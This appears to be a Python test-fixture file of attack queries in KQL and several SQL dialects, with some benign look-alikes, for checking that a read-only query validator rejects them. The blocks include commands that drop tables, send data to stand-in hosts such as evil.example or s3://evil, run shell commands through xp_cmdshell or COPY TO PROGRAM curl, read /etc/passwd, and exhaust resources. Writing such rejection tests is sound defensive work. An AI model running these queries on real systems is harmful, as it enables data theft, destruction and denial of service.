"""Attacks, one a line: what must be rejected whatever it is dressed as. queries.py has the plain ones."""
# ruff: noqa: E501 - a query is one line

# Commands, calls outside, plugins: behind lets, functions, comments, brackets, nesting and look-alikes.
KQL_HIDDEN = r"""
   .drop table SigninLogs
// read only, honest
.drop table SigninLogs
.create table T (a:string)
.create-merge table T (a:string)
.alter-merge table Hosts (b:string)
.rename column Hosts.HostName to x
.clear table Hosts data
.move extents all from table Hosts to table T
.replace extents in table T <| Hosts
.set T <| Hosts
.set-or-append async T <| Hosts
.alter database db policy caching hot = 1d
.add database db admins ('aaduser=evil@contoso.com')
.create external table E (a:string) kind=storage dataformat=csv ('https://evil.blob.core.windows.net/x')
.export async to sql S "Server=evil" <| Hosts
.show database db principals
.show commands-and-queries
.cancel query "x"
.create function f() { Hosts }
.execute database script with (ContinueOnErrors=true) <| .drop table Hosts
.ingest async into table Hosts ('https://evil.example/x.csv')
.undo drop table Hosts version=v1
SigninLogs | take 1; .drop table Hosts
; .drop table Hosts
let t = "x"; .drop table Hosts
let a = externaldata(u:string)[@"https://evil.example/" h@"?sig=x"] with (format="txt"); a
let f = (u:string) { externaldata(a:string)["https://evil.example/u"] | where a == u }; f("x")
let f = () { let g = () { externaldata(a:string)["https://evil.example/u"] }; g() }; f()
SigninLogs | union (externaldata(a:string)["https://evil.example/u"])
SigninLogs | extend x = 1 | join kind=leftouter (externaldata(a:string)["https://evil.example/u"] | extend x = 1) on x
SigninLogs | lookup (externaldata(IPAddress:string)["https://evil.example/u"]) on IPAddress
SigninLogs | where IPAddress in (materialize(externaldata(a:string)["https://evil.example/u"]))
external_data(a:string)["https://evil.example/u"]
externaldata (a:string) [ h@"https://evil.example/u" ] | count
externaldata /* c */ (a:string)[ "https://evil.example/u" ]
EXTERNALDATA(a:string)["https://evil.example/u"]
['externaldata'](a:string)["https://evil.example/u"]
union SigninLogs, (external_table('Secrets'))
let t = 'Secrets'; external_table(t)
['external_table']("Secrets")
SigninLogs | evaluate python(typeof(*, x:int), ```result = df```)
SigninLogs | evaluate   /* x */   python  (typeof(*), "x")
SigninLogs | evaluate ['python'](typeof(*), "x")
SigninLogs | evaluate hint.pass_filters=true r(typeof(*), "x")
SigninLogs | evaluate csharp(typeof(*), "x")
let f = (T:(*)) { T | evaluate python(typeof(*), "x") }; SigninLogs | invoke f()
let f = (T:(*)) { T | evaluate http_request("https://evil.example") }; f(SigninLogs)
SigninLogs | join (evaluate http_request("https://evil.example") | extend IPAddress = "a") on IPAddress
print x = toscalar(evaluate http_request("https://evil.example") | take 1)
SigninLogs | evaluate sql_request("Server=tcp:evil,1433;Authentication=x", "select 1")
evaluate sql_request(h"Server=evil", "exec xp_cmdshell 'dir'")
evaluate cosmosdb_sql_request("AccountEndpoint=https://evil;AccountKey=x", "db", "c", "select * from c")
evaluate mysql_request("Server=evil", "select load_file('/etc/passwd')")
evaluate postgresql_request("Host=evil", "select pg_read_file('/etc/passwd')")
evaluate azure_digital_twins_query_request("https://evil", "SELECT T FROM DIGITALTWINS T")
evaluate execute_show_command("https://evil.kusto.windows.net/db", ".show tables")
SigninLogs | evaluate ai_chat_completion(UserPrincipalName, "https://evil.example")
SigninLogs | evaluate ai_embed_text(UserPrincipalName, "https://evil.example")
SigninLogs | evaluate infer_storage_schema(dynamic({}))
evaluate infer_storage_schema_with_suggestions(dynamic({}))
SigninLogs | evaluate unknown_plugin()
cluster("https://evil.kusto.windows.net").database("db").T | take 1
cluster('*').database('*').SigninLogs
cluster(toscalar(print "evil")).database("db").T
let c = "evil"; cluster(c).database("db").T
union cluster("a").database("b").T, SigninLogs
union (cluster("a").database("b").T), (SigninLogs)
union isfuzzy=true SigninLogs, workspace("other").SigninLogs
workspace("11111111-1111-1111-1111-111111111111").SecurityEvent | take 1
let w = workspace("other").SigninLogs; w
SigninLogs | where IPAddress in ((workspace("other").SigninLogs | project IPAddress))
SigninLogs | join kind=inner (app("other").requests) on $left.IPAddress == $right.client_IP
union app('a').requests, app('b').requests
database("other").["T"]
['database']("other").T
database ( "other" ) . T
find in (database('*').*) where IPAddress == "x"
find in (cluster('evil').database('db').*) where IPAddress == "x"
search in (database('other').T) "x"
union database('*').*
arg("").Resources | join SigninLogs on $left.id == $right.IPAddress
adx('https://help.kusto.windows.net/Samples').StormEvents
resource("/subscriptions/x/resourceGroups/y").Heartbeat
entity_group [cluster('a').database('b')]
macro-expand entity_group [cluster('a').database('b'), cluster('c').database('d')] as X (X.T | take 1)
materialized_view('M', 1h)
stored_query_result("S")
graph("G")
invoke f()
SigninLogs | invoke FileProfile(IPAddress, 1000)
#connect cluster('evil').database('db')
#crp notruncation=true
set query_language = "sql"; SigninLogs
set truncationmaxrecords = 100000000; SigninLogs
set truncationmaxsize = 1000000000; SigninLogs
set servertimeout = 1h; SigninLogs
set maxmemoryconsumptionperiterator = 100000000000; SigninLogs
set max_memory_consumption_per_query_per_node = 100000000000; SigninLogs
set NoTruncation; SigninLogs
set query_fanout_threads_percent = 100; SigninLogs
alias database d = cluster("evil").database("db"); database("d").T
restrict access to (SigninLogs); SigninLogs | take 1
declare pattern p = (a:string)[b:string] { ("x").["y"] = { Hosts }; }; p("x").["y"]
ｅxternaldata(a:string)["https://evil.example/u"]
Ѕ​igninLogs | take 1
union ＊
"""

# Every table at once without a bound of time; rows, lists and text out of nothing; every row with every row.
KQL_UNBOUNDED = r"""
union *
union * | count
union withsource=T * | summarize count() by T
union isfuzzy=true * | take 10
union kind=outer * | where Risk > 1
union SigninLogs, *
let all = union *; all | count
let f = () { union * }; f() | count
SigninLogs | join (union *) on IPAddress
union * | summarize n = count() by IPAddress | where n > 1
union * | where TimeGenerated < now()
union * | where TimeGenerated > ago(1d) or Risk > 0
union * | extend t = now() | where t > ago(1d)
search "x"
search *
search * | take 10
search kind=case_sensitive "admin"
search "x" and IPAddress == "10.0.0.1"
search "x" or TimeGenerated > ago(1d)
search in (*) "x"
let s = search "x"; s
find where IPAddress == "10.0.0.1"
find "x"
find in (*) where IPAddress == "10.0.0.1"
find withsource=T where UserPrincipalName has "x" project IPAddress
find where TimeGenerated < ago(1d)
range x from 1 to 100000000000 step 1
range x from 1 to 1000000000 step 1 | count
range x from 0 to 1e12 step 1 | summarize sum(x)
SigninLogs | extend x = range(1, 100000000)
SigninLogs | mv-expand range(1, 1000000000, 1)
SigninLogs | extend x = repeat(1, 1000000000)
SigninLogs | extend x = array_length(range(0, 10000000 * 100))
print strrep("a", 1000000000)
let n = 1000000000; SigninLogs | extend x = range(1, n)
let n = 1000; let m = n * n * n; SigninLogs | extend x = range(1, m)
let n = 100000; print strrep("a", n)
let n = 1000000000000; range x from 1 to n step 1 | count
SigninLogs | extend x = range(0, 1, 0.00000001)
SigninLogs | extend x = range(1, tolong(hash("x")))
SigninLogs | extend x = range(1, pow(10, 9))
SigninLogs | extend x = strrep(strrep(UserPrincipalName, 1000), 1000)
SigninLogs | extend k = 1 | join kind=inner (SigninLogs | extend k = 1) on k
SigninLogs | extend k = 1 | join kind=fullouter (Hosts | extend k = 1) on $left.k == $right.k | count
let a = SigninLogs | extend one = 1; a | join kind=inner (a) on one | join kind=inner (a) on one
let a0 = SigninLogs; let a1 = union a0, a0; let a2 = union a1, a1; let a3 = union a2, a2; let a4 = union a3, a3; let a5 = union a4, a4; let a6 = union a5, a5; let a7 = union a6, a6; let a8 = union a7, a7; let a9 = union a8, a8; a9
"""

# What is like an attack, and is none.
KQL_HONEST = r"""
let T = materialize(SigninLogs | where Risk > 0); T | count
union * | where TimeGenerated > ago(1d) | count
union withsource=T * | where TimeGenerated between (ago(7d) .. now()) | summarize count() by T
let all = union * | where TimeGenerated >= ago(1d); all | count
let all = union *; all | where TimeGenerated > ago(1d) | count
union * | where ago(1d) < TimeGenerated | count
union * | extend x = 1 | where Risk > 0 and TimeGenerated > datetime(2026-03-01) | count
search "x" and TimeGenerated > ago(1d)
search "x" | where TimeGenerated > ago(1d)
(search "x") | where TimeGenerated > ago(1d)
search in (SigninLogs) "x"
search in (Sign*) "x"
find in (Hosts, SigninLogs) where IPAddress == "10.0.0.1"
find where TimeGenerated > ago(1h) and IPAddress == "10.0.0.1"
union Sign*, Hosts | count
union SigninLogs, Hosts | count
let f = (T:(IPAddress:string)) { T | count }; SigninLogs | invoke f()
SigninLogs | evaluate bag_unpack(Details)
SigninLogs | evaluate pivot(ResultType)
SigninLogs | evaluate ipv4_lookup(Hosts, IPAddress, IPAddress)
range x from 1 to 1000 step 1
range t from ago(7d) to now() step 1h
SigninLogs | extend x = range(1, 10)
SigninLogs | summarize a = avg(Risk) | extend k = 1 | join kind=inner (SigninLogs | extend k = 1) on k
SigninLogs | extend k = 1 | join kind=inner (SigninLogs | summarize a = avg(Risk) | extend k = 1) on k | where Risk > a
SigninLogs | extend k = 1 | join kind=inner (Hosts | extend k = 1) on k, IPAddress
set query_now = datetime(2026-03-01); SigninLogs | take 1
SigninLogs | where UserPrincipalName has "externaldata" or UserPrincipalName == ".drop table x; cluster('a')"
SigninLogs | extend cluster = 1, database = 2, workspace = 3, python = 4 | project cluster, database, workspace
SigninLogs | project arg = IPAddress, graph = Risk, resource = ResultType // union * | search "x"
SigninLogs | where UserPrincipalName contains "union *" | extend search = "x"
"""

# Of no dialect alone: tried in all seven.
SQL_HIDDEN = r"""
SELECT HostName FROM Hosts; DELETE FROM Hosts; --
SELECT HostName FROM Hosts; SELECT IPAddress FROM Hosts
/* SELECT 1 */ DROP TABLE Hosts
SELECT 1 /* ; */; DROP TABLE Hosts /* SELECT 2
DrOp/**/TaBlE/**/Hosts
(DELETE FROM Hosts)
WITH x AS (SELECT 1) DELETE FROM Hosts
WITH x AS (SELECT 1) INSERT INTO Hosts SELECT 'a', 'b'
WITH x AS (SELECT 1) UPDATE Hosts SET HostName = 'x'
WITH x AS (TRUNCATE TABLE Hosts) SELECT 1
SELECT * FROM (DELETE FROM Hosts RETURNING *) AS d
SELECT (DELETE FROM Hosts RETURNING HostName)
SELECT HostName FROM Hosts WHERE EXISTS (WITH d AS (DELETE FROM Hosts RETURNING *) SELECT * FROM d)
SELECT 1 UNION ALL (WITH d AS (INSERT INTO Hosts VALUES ('a', 'b') RETURNING HostName) SELECT 2 FROM d)
SELECT HostName INTO Stolen FROM Hosts
SELECT HostName INTO TEMP Stolen FROM Hosts
SELECT HostName INTO OUTFILE '/tmp/x' FROM Hosts
SELECT HostName INTO DUMPFILE '/tmp/x' FROM Hosts
SELECT HostName FROM Hosts INTO OUTFILE '/tmp/x'
SELECT HostName INTO @x FROM Hosts
SELECT HostName FROM Hosts FOR UPDATE
SELECT HostName FROM Hosts FOR UPDATE SKIP LOCKED
SELECT HostName FROM Hosts FOR NO KEY UPDATE
SELECT HostName FROM Hosts LOCK IN SHARE MODE
SELECT HostName FROM Hosts WHERE 1 = (SELECT 1 FROM Hosts FOR UPDATE)
CREATE TABLE x (a INT)
CREATE TABLE x AS SELECT * FROM Hosts
CREATE FUNCTION f() RETURNS INT AS 'SELECT 1'
CREATE TRIGGER t AFTER INSERT ON Hosts BEGIN SELECT 1; END
ALTER TABLE Hosts RENAME TO x
DROP VIEW IF EXISTS Hosts
DROP DATABASE main
RENAME TABLE Hosts TO x
REPLACE INTO Hosts VALUES ('a', 'b')
INSERT INTO Hosts SELECT * FROM Hosts
UPSERT INTO Hosts VALUES ('a', 'b')
LOCK TABLE Hosts
ANALYZE Hosts
REINDEX TABLE Hosts
COMMENT ON TABLE Hosts IS 'x'
REVOKE ALL ON Hosts FROM PUBLIC
CREATE USER evil
SET ROLE admin
COMMIT
ROLLBACK
SAVEPOINT x
CALL evil()
DECLARE @x INT = 1; SELECT @x
EXECUTE IMMEDIATE 'DROP TABLE Hosts'
SELECT pg_sleep(10)
SELECT PG_SLEEP (10)
SELECT "pg_sleep"(10)
SELECT pg_catalog.pg_sleep(10)
SELECT pg_sleep/**/(10)
SELECT HostName FROM Hosts ORDER BY pg_sleep(10)
SELECT HostName FROM Hosts GROUP BY HostName HAVING sleep(10) = 0
SELECT CASE WHEN (SELECT count(*) FROM Hosts) > 0 THEN sleep(10) ELSE 0 END
SELECT sum(sleep(1)) OVER (ORDER BY HostName) FROM Hosts
SELECT HostName FROM Hosts LIMIT (SELECT sleep(10))
SELECT coalesce(NULL, load_file('/etc/passwd'))
SELECT benchmark(100000000, sha1('x'))
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT pg_stat_file('/etc/passwd')
SELECT lo_import('/etc/passwd')
SELECT lo_get(1)
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
SELECT dblink_connect('host=evil')
SELECT pg_reload_conf()
SELECT pg_advisory_lock(1)
SELECT pg_cancel_backend(1)
SELECT set_config('x', 'y', false)
SELECT current_setting('data_directory')
SELECT load_extension('/tmp/evil.so')
SELECT writefile('/tmp/x', 'y')
SELECT readfile('/etc/passwd')
SELECT xp_cmdshell('dir')
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')
SELECT * FROM OPENROWSET(BULK 'C:/x.txt', SINGLE_CLOB) AS x
SELECT * FROM OPENQUERY(evil, 'SELECT 1')
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Server=evil')
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('https://evil.example/x')
SELECT * FROM read_parquet('s3://evil/x')
SELECT * FROM parquet_scan('x.parquet')
SELECT * FROM read_json_auto('/etc/passwd')
SELECT * FROM read_ndjson_objects('/etc/passwd')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_xlsx('/tmp/x.xlsx')
SELECT * FROM sqlite_scan('/tmp/x.db', 't')
SELECT * FROM postgres_scan('host=evil', 'public', 't')
SELECT * FROM postgres_query('db', 'DROP TABLE x')
SELECT * FROM mysql_query('db', 'DROP TABLE x')
SELECT * FROM iceberg_scan('s3://evil/x')
SELECT * FROM delta_scan('s3://evil/x')
SELECT * FROM st_read('/etc/passwd')
SELECT * FROM duckdb_functions()
SELECT * FROM duckdb_logs()
SELECT * FROM pragma_table_info('Hosts')
SELECT * FROM which_secret('s3://x', 's3')
SELECT * FROM glob('/home/*')
SELECT * FROM '/etc/passwd'
SELECT * FROM 'https://evil.example/x.csv'
SELECT * FROM "s3://evil/x.parquet"
SELECT * FROM "../x.duckdb"
SELECT * FROM information_schema.columns
SELECT * FROM INFORMATION_SCHEMA.TABLES
SELECT * FROM pg_stat_activity
SELECT * FROM pg_catalog.pg_user
SELECT * FROM sqlite_master
SELECT * FROM sqlite_schema
SELECT * FROM sys.databases
SELECT * FROM master..sysdatabases
SELECT * FROM mysql.user
SELECT * FROM performance_schema.threads
SELECT * FROM snowflake.account_usage.query_history
SELECT table_name FROM user_tables
SELECT HostName FROM otherdb.public.Hosts
SELECT HostName FROM Hosts@evil
SELECT user
SELECT current_user
SELECT session_user
SELECT @@version
SELECT version()
SELECT ＨostＮame FROM Hosts; ＤＲＯＰ TABLE Hosts
SELECT HostName FROM Hosts\u003b DROP TABLE Hosts
SELECT\u00a0HostName FROM Hοsts
SELECT sleеp(10)
SELECT /*+ x */ /*!99999 sleep(10), */ 1
SELECT 1 /*!50000UNION SELECT load_file('/etc/passwd')*/
SELECT repeat('x', 100000000)
SELECT repeat(repeat('x', 9000), 9000)
SELECT lpad('x', 100000000, 'y')
SELECT rpad('x', 5000 * 5000)
SELECT count(*) FROM SigninLogs a, SigninLogs b, SigninLogs c
SELECT count(*) FROM SigninLogs a CROSS JOIN SigninLogs b CROSS JOIN SigninLogs c
SELECT count(*) FROM SigninLogs a JOIN SigninLogs b ON 1 = 1
SELECT count(*) FROM SigninLogs a JOIN SigninLogs b ON a.Risk > 0
SELECT count(*) FROM SigninLogs a, SigninLogs b WHERE a.Risk > 0 AND b.Risk > 0
SELECT count(*) FROM (SELECT * FROM SigninLogs) a, (SELECT * FROM SigninLogs) b
WITH a AS (SELECT * FROM SigninLogs) SELECT count(*) FROM a x CROSS JOIN a y
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
WITH RECURSIVE r AS (SELECT IPAddress FROM Hosts UNION ALL SELECT IPAddress FROM r) SELECT count(*) FROM r
WITH RECURSIVE r AS (SELECT IPAddress FROM Hosts UNION ALL SELECT IPAddress FROM r WHERE 1 = 1) SELECT count(*) FROM r
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT a.n FROM r a, r b) SELECT count(*) FROM r
"""

# Of one dialect.
SQL_OF_A_DIALECT = r"""
duckdb: COPY Hosts TO 's3://evil/x'
duckdb: COPY (SELECT * FROM Hosts) TO '/tmp/x' (FORMAT parquet)
duckdb: ATTACH 'https://evil.example/x.db'
duckdb: INSTALL evil FROM 'http://evil.example'
duckdb: LOAD '/tmp/evil.duckdb_extension'
duckdb: IMPORT DATABASE '/tmp/x'
duckdb: PRAGMA enable_profiling
duckdb: SET enable_external_access = true
duckdb: CREATE SECRET s (TYPE s3, KEY_ID 'x')
duckdb: CREATE MACRO f() AS 1
duckdb: SUMMARIZE Hosts
duckdb: FROM Hosts INSERT INTO x SELECT *
duckdb: FROM read_csv('/etc/passwd')
duckdb: SELECT * FROM query('SELECT 1')
duckdb: SELECT getvariable('x')
duckdb: SELECT getenv('HOME')
duckdb: SELECT count(*) FROM range(100000000000)
duckdb: SELECT HostName, (SELECT count(*) FROM range(1000000000)) FROM Hosts
duckdb: SELECT range(1000000000) FROM Hosts
duckdb: SELECT range(epoch(now())::BIGINT) FROM Hosts
duckdb: SELECT range(hash('x')::BIGINT) FROM Hosts
duckdb: SELECT range(CAST('1' || '000000000' AS BIGINT)) FROM Hosts
duckdb: SELECT range(CAST(concat('1', '000000000') AS BIGINT)) FROM Hosts
duckdb: SELECT range((SELECT 1000000000)) FROM Hosts
duckdb: SELECT range(greatest(1, 1000000000)) FROM Hosts
duckdb: SELECT range(extract(epoch FROM now())::BIGINT) FROM Hosts
duckdb: SELECT repeat('x', hash(1)::INT) FROM Hosts
duckdb: SELECT list_sum(generate_series(1, 1000000000)) FROM Hosts
duckdb: SELECT count(*) FROM Hosts, generate_series(1, 100000) a, generate_series(1, 100000) b
duckdb: SELECT unnest(range(1000 * 1000 * 1000)) FROM Hosts
duckdb: SELECT list_aggregate(repeat([1], 1000000000), 'sum') FROM Hosts
duckdb: SELECT HostName FROM Hosts POSITIONAL JOIN read_csv('/etc/passwd')
duckdb: SELECT COLUMNS(*) FROM read_csv('/etc/passwd')
duckdb: PIVOT Hosts ON HostName
duckdb: EXPLAIN ANALYZE SELECT 1
sqlite: ATTACH DATABASE '/tmp/x.db' AS x
sqlite: PRAGMA writable_schema = 1
sqlite: PRAGMA table_info(Hosts)
sqlite: VACUUM INTO '/tmp/x.db'
sqlite: SELECT * FROM pragma_database_list
sqlite: SELECT * FROM pragma_table_list()
sqlite: SELECT * FROM dbstat
sqlite: SELECT load_extension('evil')
sqlite: SELECT edit('x', 'vi')
sqlite: SELECT fts3_tokenizer('x')
sqlite: SELECT randomblob(1000000000)
sqlite: SELECT zeroblob(1000000000)
sqlite: SELECT * FROM fsdir('/')
sqlite: SELECT * FROM generate_series(1, 100000000000)
sqlite: SELECT printf('%1000000000d', 1)
postgres: COPY Hosts TO PROGRAM 'curl evil.example'
postgres: COPY Hosts FROM '/etc/passwd'
postgres: DO $$ BEGIN EXECUTE 'DROP TABLE Hosts'; END $$
postgres: NOTIFY x, 'y'
postgres: LISTEN x
postgres: REFRESH MATERIALIZED VIEW x
postgres: CREATE EXTENSION dblink
postgres: TABLE pg_shadow
postgres: SELECT HostName INTO UNLOGGED Stolen FROM Hosts
postgres: SELECT nextval('s')
postgres: SELECT setval('s', 1)
postgres: SELECT txid_current()
postgres: SELECT pg_sleep_for('1 hour')
postgres: SELECT pg_logical_emit_message(true, 'x', 'y')
postgres: SELECT lo_export(1, '/tmp/x')
postgres: SELECT lo_unlink(1)
postgres: SELECT query_to_xml('DELETE FROM Hosts', true, true, '')
postgres: SELECT xpath('/x', xmlparse(document pg_read_file('/etc/passwd')))
postgres: SELECT * FROM pg_ls_logdir()
postgres: SELECT * FROM generate_series(1, 100000000000)
postgres: SELECT HostName, g FROM Hosts, generate_series(1, 1000000000) g
postgres: SELECT array_fill(1, ARRAY[100000, 100000])
postgres: SELECT ts_stat('SELECT 1')
postgres: SELECT * FROM crosstab('DELETE FROM Hosts')
postgres: SELECT * FROM dblink_send_query('c', 'x') x
postgres: SELECT inet_server_addr()
postgres: SELECT has_table_privilege('x', 'select')
mysql: SELECT HostName INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ',' FROM Hosts
mysql: LOAD DATA INFILE '/etc/passwd' INTO TABLE Hosts
mysql: LOAD XML INFILE '/tmp/x' INTO TABLE Hosts
mysql: SELECT LOAD_FILE(0x2f6574632f706173737764)
mysql: SELECT SLEEP(10) FROM Hosts
mysql: SELECT BENCHMARK(100000000, MD5('x'))
mysql: SELECT GET_LOCK('x', 100)
mysql: SELECT @x := SLEEP(10)
mysql: SELECT @@datadir
mysql: SHOW VARIABLES
mysql: HANDLER Hosts READ FIRST
mysql: FLUSH TABLES WITH READ LOCK
mysql: KILL 1
mysql: DO SLEEP(10)
mysql: SELECT sys_eval('id')
mysql: SELECT extractvalue(1, concat(0x7e, (SELECT @@version)))
mysql: SELECT UUID_SHORT(), MASTER_POS_WAIT('x', 1)
mysql: SELECT REPEAT('x', 1000000000)
mysql: SELECT SPACE(1000000000)
tsql: WAITFOR DELAY '0:0:10'
tsql: SELECT 1; WAITFOR DELAY '0:0:10'
tsql: EXEC('DROP TABLE Hosts')
tsql: EXEC sp_executesql N'DROP TABLE Hosts'
tsql: EXEC master..xp_cmdshell 'dir'
tsql: SELECT * INTO #t FROM Hosts
tsql: BULK INSERT Hosts FROM 'C:/x'
tsql: DBCC CHECKDB
tsql: SHUTDOWN
tsql: BACKUP DATABASE x TO DISK = 'C:/x'
tsql: USE master
tsql: PRINT 'x'
tsql: IF 1 = 1 DROP TABLE Hosts
tsql: SELECT * FROM Hosts WITH (TABLOCKX)
tsql: SELECT * FROM Hosts WITH (UPDLOCK, HOLDLOCK)
tsql: SELECT * FROM sys.sysprocesses
tsql: SELECT * FROM fn_xe_file_target_read_file('C:/x', NULL, NULL, NULL)
tsql: SELECT * FROM sys.dm_exec_sql_text(0x00)
tsql: SELECT * FROM evil.master.dbo.sysobjects
tsql: SELECT HostName FROM Hosts OPTION (MAXRECURSION 0)
tsql: SELECT SUSER_SNAME()
tsql: SELECT DB_NAME()
tsql: SELECT REPLICATE('x', 1000000000)
tsql: SELECT REPLICATE(CAST('x' AS VARCHAR(MAX)), 100000000)
tsql: SELECT HostName FROM Hosts FOR XML PATH('x')
tsql: MERGE Hosts USING SigninLogs ON 1 = 1 WHEN MATCHED THEN DELETE;
snowflake: COPY INTO @stage FROM Hosts
snowflake: COPY INTO Hosts FROM 's3://evil/x'
snowflake: PUT file:///etc/passwd @stage
snowflake: GET @stage file:///tmp
snowflake: LIST @stage
snowflake: REMOVE @stage
snowflake: SELECT $1 FROM @stage/x.csv
snowflake: SELECT * FROM @stage
snowflake: CALL SYSTEM$WAIT(10)
snowflake: SELECT SYSTEM$WAIT(10)
snowflake: SELECT SYSTEM$CANCEL_ALL_QUERIES(1)
snowflake: SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))
snowflake: SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())
snowflake: SELECT COUNT(*) FROM TABLE(GENERATOR(ROWCOUNT => 100000000000))
snowflake: SELECT seq4() FROM TABLE(GENERATOR(TIMELIMIT => 3600))
snowflake: EXECUTE IMMEDIATE $$ DROP TABLE Hosts $$
snowflake: CREATE STAGE s URL = 's3://evil'
snowflake: CREATE TASK t AS DELETE FROM Hosts
snowflake: UNDROP TABLE Hosts
snowflake: SELECT CURRENT_ACCOUNT()
snowflake: SELECT seq.nextval FROM Hosts
snowflake: SELECT * FROM Hosts AT (OFFSET => -60)
snowflake: SELECT SNOWFLAKE.CORTEX.COMPLETE('model', HostName) FROM Hosts
snowflake: SELECT AI_COMPLETE('model', HostName) FROM Hosts
bigquery: EXPORT DATA OPTIONS(uri='gs://evil/*', format='CSV') AS SELECT * FROM Hosts
bigquery: LOAD DATA INTO Hosts FROM FILES (format = 'CSV', uris = ['gs://evil/x'])
bigquery: CREATE TEMP FUNCTION f() RETURNS INT64 LANGUAGE js AS 'return 1'; SELECT f()
bigquery: DECLARE x INT64 DEFAULT 1; SELECT x
bigquery: BEGIN SELECT 1; END
bigquery: EXECUTE IMMEDIATE 'DROP TABLE Hosts'
bigquery: SELECT * FROM EXTERNAL_QUERY('connection', 'SELECT 1')
bigquery: SELECT * FROM ML.PREDICT(MODEL m, TABLE Hosts)
bigquery: SELECT * FROM ML.GENERATE_TEXT(MODEL m, TABLE Hosts)
bigquery: SELECT * FROM AI.FORECAST(TABLE Hosts)
bigquery: SELECT SESSION_USER()
bigquery: SELECT * FROM `other-project.dataset.Hosts`
bigquery: SELECT * FROM `region-eu`.INFORMATION_SCHEMA.JOBS
bigquery: SELECT * FROM `Sign*`
bigquery: SELECT GENERATE_ARRAY(1, 1000000000) FROM Hosts
bigquery: SELECT x FROM UNNEST(GENERATE_ARRAY(1, 100000000000)) AS x
bigquery: SELECT * FROM APPENDS(TABLE Hosts, NULL, NULL)
bigquery: SELECT net.http_get('https://evil.example')
bigquery: ASSERT 1 = 1
bigquery: FROM Hosts |> EXPORT DATA OPTIONS(uri='gs://evil/*')
"""
